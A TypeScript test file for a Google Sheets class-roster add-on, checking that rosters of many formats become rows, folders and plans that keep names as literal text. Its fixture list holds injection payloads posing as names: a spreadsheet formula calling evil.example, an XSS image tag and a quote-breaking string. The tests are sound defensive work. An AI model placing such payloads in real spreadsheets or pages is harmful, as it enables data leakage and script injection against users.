// Class lists of every shape through the built add-on: what is wrong is said by line before anything exists, and what is right
// becomes rows, folders and plans that carry exactly the names people have, as text.
import { under } from '../../scripts/demo/outcome.ts';
import type { RosterCheck } from '../../src/contract/api.ts';
import type { Workspace } from '../../src/emulator/workspace.ts';
import { createPlans, KEEPER, Person, school, type TestClass, textOf } from '../support/add-on.ts';

interface Opened {
  readonly workspace: Workspace;
  readonly keeper: Person;
  readonly sheet: string;
}

function opened(): Opened {
  const workspace = school([]);
  const keeper = new Person(workspace, KEEPER);
  const made = keeper.rest('POST', 'https://sheets.googleapis.com/v4/spreadsheets', { properties: { title: 'Mine' } });
  const sheet = String(made['spreadsheetId']);
  keeper.start(sheet);
  return { workspace, keeper, sheet };
}

const check = ({ keeper, sheet }: Opened, text: string): RosterCheck =>
  keeper.call(sheet, 'class.checkRoster', { text });

function setUp({ workspace, keeper, sheet }: Opened, roster: string, leaveOutWrong = false): TestClass {
  const input = { name: 'Class 7', schoolYear: '2026–27', roster, leaveOutWrong };
  const { workbookId } = keeper.call(sheet, 'class.setUp', input);
  return { keeper, workbookId, folderId: workspace.drive.item(workbookId)?.parents[0] ?? '' };
}

function enrolAccounts({ workspace }: Opened, rows: readonly (readonly [string, string])[]): void {
  for (const [name, email] of rows)
    workspace.addPerson({
      id: email.toLowerCase(),
      name,
      role: 'student',
      addOnBlocked: false,
      account: 'workspace',
    });
}

/** What Drive holds, down to versions: the same before and after means that nothing was created or touched. */
const driveState = ({ workspace }: Opened): string[] =>
  [...workspace.drive.items()].map(item => `${item.id} ${item.version} ${item.name}`).sort();

/** Name and address of each row of Students, as they were entered: text, or what Sheets took them for. */
function studentCells({ keeper, workbookId }: TestClass): unknown[][] {
  const fields = 'sheets(properties(title),data(rowData(values(userEnteredValue))))';
  const url = `https://sheets.googleapis.com/v4/spreadsheets/${workbookId}?includeGridData=true&fields=${fields}`;
  const sheets = keeper.rest('GET', url)['sheets'] as {
    properties: { title: string };
    data: { rowData?: { values?: { userEnteredValue?: { stringValue?: string } }[] }[] }[];
  }[];
  const rows = sheets.find(({ properties }) => properties.title === 'Students')?.data[0]?.rowData ?? [];
  return rows
    .slice(1)
    .map(row => (row.values ?? []).slice(0, 2).map(value => value.userEnteredValue ?? {}))
    .filter(cells => cells.some(value => Object.keys(value).length > 0));
}

const asText = (rows: readonly (readonly [string, string])[]): unknown[][] =>
  rows.map(row => row.map(text => ({ stringValue: text })));

/** Folder, documents, evidence folder and people of each student, by walking the class folder. */
function madeFor({ workspace }: Opened, { folderId, keeper }: TestClass) {
  return workspace.drive
    .children(folderId)
    .filter(item => item.mimeType.endsWith('.folder'))
    .map(folder => {
      const inside = under(workspace, folder.id);
      const plan = inside.find(item => item.mimeType.endsWith('.document'));
      return {
        folder: folder.name,
        inside: inside.map(item => item.name).sort(),
        sharedWith: folder.permissions
          .filter(({ role }) => role !== 'owner')
          .map(({ role, emailAddress }) => `${role} ${emailAddress}`),
        words: plan ? textOf(keeper, plan.id) : '',
      };
    });
}

const HOSTILE: readonly (readonly [string, string])[] = [
  ['Zoë O’Brien-Núñez', 'zoe@hillside.example'],
  ["Siobhán D'Arcy", "o'darcy@hillside.example"],
  ['محمد علي', 'mali@hillside.example'],
  ['שרה כהן', 'sara@hillside.example'],
  ['李小龍', 'lee@hillside.example'],
  ['🦊 Fox 👩‍👩‍👧', 'fox@hillside.example'],
  ['Cher', 'cher@hillside.example'],
  ['=IMPORTXML("https://evil.example","//a")', 'formula@hillside.example'],
  ['+Ben', 'plus@hillside.example'],
  ['-1', 'minus@hillside.example'],
  ['@lex', 'at@hillside.example'],
  ['007', 'seven@hillside.example'],
  ['3/4', 'half@hillside.example'],
  ['TRUE', 'true@hillside.example'],
  ['<img src=x onerror=alert(1)>', 'img@hillside.example'],
  ['Robert\\"); -- $& $1', 'bobby@hillside.example'],
  ['Ana Li', 'ana1@hillside.example'],
  ['Ana Li', 'ana2@hillside.example'],
  ['Uma Upper', 'UMA.Upper@Hillside.example'],
];

const quoted = (text: string): string => `"${text.replace(/"/g, '""')}"`;
const delimited = (separator: string, lineEnd: string, rows: readonly (readonly string[])[]): string =>
  rows.map(row => row.map(quoted).join(separator)).join(lineEnd) + lineEnd;

const TWO: readonly (readonly [string, string])[] = [
  ['Ana de la Cruz', 'ana@hillside.example'],
  ['Ben Okafor', 'ben@hillside.example'],
];

const SHAPES: readonly (readonly [string, string, readonly (readonly [string, string])[]])[] = [
  [
    'a CSV with byte order mark, CRLF and hostile names',
    `\ufeff${delimited(',', '\r\n', [['Name', 'E-mail'], ...HOSTILE])}`,
    HOSTILE,
  ],
  [
    'semicolons, Spanish titles in another order, a line end inside a name',
    'Correo electrónico;Curso;Apellidos;Nombre\r\nana@hillside.example;7b;"de la\r\nCruz";Ana\r\nben@hillside.example;7b;Okafor;Ben',
    TWO,
  ],
  [
    'cells pasted from a sheet with an empty line and parents beside',
    'PUPIL\tParent e-mail\tStudent E-Mail Address\nAna de la Cruz\tmom@x.example\tana@hillside.example\n\t\t\nBen Okafor\t\tben@hillside.example',
    TWO,
  ],
  ['no titles at all', 'Ana de la Cruz <ana@hillside.example>\nBen Okafor ben@hillside.example', TWO],
];

describe('class lists that are right', () => {
  it.each(SHAPES)('%s: rows, folders and plans carry the names as they are', (_, text, rows) => {
    const place = opened();
    enrolAccounts(place, rows);
    expect(check(place, text)).toMatchObject({ right: rows.length, wrong: 0, problems: [] });
    const theClass = setUp(place, text);
    expect(studentCells(theClass)).toEqual(asText(rows));
    createPlans(theClass);
    expect(studentCells(theClass)).toEqual(asText(rows));
    const made = madeFor(place, theClass);
    expect(made.map(({ folder, inside, sharedWith }) => [folder, ...inside, ...sharedWith]).sort()).toEqual(
      rows
        .map(([name, email]) => [
          name,
          ...[`${name} – Learning plan 2026–27`, `Evidence – ${name}`].sort(),
          `writer ${email.toLowerCase()}`,
        ])
        .sort(),
    );
    for (const { folder, words } of made) {
      expect(
        words
          .split('\n')[0]
          ?.replace(/^\ufeff/, '')
          .trim(),
      ).toBe(folder);
      expect(words).toMatch(new RegExp(`Student\\s+${folder.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\s`));
    }
    expect(place.workspace.mails).toHaveLength(0);
  });

  it('takes a late joiner with a formula for a name, once', () => {
    const place = opened();
    const late = ['=1+1', 'late@hillside.example'] as const;
    enrolAccounts(place, [...TWO, late]);
    const theClass = setUp(place, delimited('\t', '\n', TWO));
    const { workbookId } = theClass;
    const roster = delimited(',', '\n', [['Name', 'Mail'], ...TWO, late]);
    expect(place.keeper.call(workbookId, 'class.addStudents', { workbookId, roster, leaveOutWrong: false })).toEqual({
      added: 1,
    });
    createPlans(theClass);
    expect(studentCells(theClass)).toEqual(asText([...TWO, late]));
    expect(madeFor(place, theClass)).toHaveLength(3);
  });

  it('1,000 rows are checked and set up', () => {
    const place = opened();
    const rows = Array.from(
      { length: 1000 },
      (_, index) => [`Student ${index + 1}`, `s${index + 1}@hillside.example`] as const,
    );
    const text = delimited(',', '\r\n', [['Name', 'E-mail'], ...rows]);
    expect(check(place, text)).toMatchObject({ right: 1000, wrong: 0, problems: [] });
    const theClass = setUp(place, text);
    const cells = studentCells(theClass);
    expect([cells.length, cells[0], cells[999]]).toEqual([1000, ...asText([rows[0] as never, rows[999] as never])]);
  });
});

const WRONG = [
  'Name;E-mail',
  'Ana de la Cruz;ana@hillside.example',
  'Bad Address;bad@',
  ';nameless@hillside.example',
  'No Address;',
  '"Two',
  'Lines";two lines@hillside.example',
  'Ben Okafor;ben@hillside.example',
  'Ana Again;ANA@hillside.example',
].join('\r\n');

describe('class lists with mistakes', () => {
  it('are named line by line, in order, before anything is created', () => {
    const place = opened();
    const before = driveState(place);
    const checked = check(place, WRONG);
    expect([checked.right, checked.wrong]).toEqual([2, 5]);
    expect(checked.rows.filter(({ problems }) => problems.length > 0).map(({ line }) => line)).toEqual([3, 4, 5, 6, 9]);
    const said = checked.rows.flatMap(({ problems }) => problems).join('\n');
    expect(said.split('\n')).toEqual([
      expect.stringMatching(/^Line 3: “bad@” is not a whole e-mail address/),
      expect.stringMatching(/^Line 4: the name is missing/),
      expect.stringMatching(/^Line 5: No Address has no e-mail address/),
      expect.stringMatching(/^Line 6: “two lines@hillside\.example” is not a whole e-mail address/),
      expect.stringMatching(/^Line 9: ANA@hillside\.example stands in line 2 already/),
    ]);
    expect(() => setUp(place, WRONG)).toThrow('Some rows of the list need a look before anything is created.');
    expect(driveState(place)).toEqual(before);
  });

  it('“Create the 2 that are right” leaves out exactly the wrong ones', () => {
    const place = opened();
    enrolAccounts(place, [...TWO, ['Nobody', 'nameless@hillside.example']]);
    const theClass = setUp(place, WRONG, true);
    createPlans(theClass);
    expect(studentCells(theClass)).toEqual(asText(TWO));
    expect(
      madeFor(place, theClass)
        .map(({ folder }) => folder)
        .sort(),
    ).toEqual(['Ana de la Cruz', 'Ben Okafor']);
  });

  it.each([
    ['an empty file', '', /list is empty/],
    ['a byte order mark and nothing else', '\ufeff\r\n', /list is empty/],
    ['titles and 0 rows', 'Name,E-mail\r\n', /no students under them/],
    ['no addresses', 'Ana\nBen', /no column with e-mail addresses/],
    ['something that is no list', '{"students":[]}', /no column with e-mail addresses/],
  ])('%s: one sentence, and nothing is created even when asked to leave out what is wrong', (_, text, words) => {
    const place = opened();
    const before = driveState(place);
    expect(check(place, text)).toEqual({ rows: [], right: 0, wrong: 0, problems: [expect.stringMatching(words)] });
    expect(() => setUp(place, text, true)).toThrow('Some rows of the list need a look before anything is created.');
    expect(driveState(place)).toEqual(before);
  });

  it('an address that nobody has stops only that student, and can be corrected in the cell', () => {
    const place = opened();
    enrolAccounts(place, TWO);
    const theClass = setUp(place, delimited('\t', '\n', [...TWO, ['Ghost', 'ghots@hillside.example']]));
    const { keeper, workbookId } = theClass;
    createPlans(theClass);
    const { students } = keeper.call(workbookId, 'class.createNext', { workbookId });
    expect(students.map(({ name, state, words }) => [name, state, words])).toEqual([
      ['Ana de la Cruz', 'ready', 'Plan ready'],
      ['Ben Okafor', 'ready', 'Plan ready'],
      [
        'Ghost',
        'problem',
        expect.stringMatching(/^Could not share: address unknown\. Correct it and press Continue\.$/),
      ],
    ]);
    enrolAccounts(place, [['Ghost', 'ghost@hillside.example']]);
    const range = encodeURIComponent("'Students'!B4");
    keeper.rest(
      'PUT',
      `https://sheets.googleapis.com/v4/spreadsheets/${workbookId}/values/${range}?valueInputOption=RAW`,
      {
        values: [['ghost@hillside.example']],
      },
    );
    createPlans(theClass);
    expect(madeFor(place, theClass).map(({ folder, sharedWith }) => [folder, ...sharedWith])).toContainEqual([
      'Ghost',
      'writer ghost@hillside.example',
    ]);
    expect(madeFor(place, theClass)).toHaveLength(3);
  });
});
